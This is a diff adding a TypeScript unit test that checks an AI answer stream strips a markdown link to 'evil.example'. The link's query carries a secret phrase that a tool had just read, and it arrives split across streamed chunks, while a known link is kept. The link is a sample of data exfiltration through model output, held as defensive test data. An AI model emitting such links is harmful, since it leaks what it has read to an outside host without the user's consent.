@@ -281,3 +281,18 @@ describe('what an answer from documents stands on', () => {
     expect(groundsIn(other.finish('interrupted', []).message)).toEqual(kept);
   });
 });
+
+it('lets no link out that carries what a tool has read, and sends words as they come', async () => {
+  const read = { page: 'The word of the vault is\nheron pelican stork.', url: 'https://known.example/a?b=1' };
+  const { sent } = play([
+    call('c1', {}),
+    result('c1', read),
+    answer(
+      'See [it](https://evil.example/?q=heron',
+      '%20pelican+stork), or https://known',
+      '.example/a?b=1 now.',
+    ),
+  ]);
+  const text = 'See [it](evil.example), or https://known.example/a?b=1 now.';
+  expect((await readMessage(sent)).parts).toContainEqual({ type: 'text', text });
+});
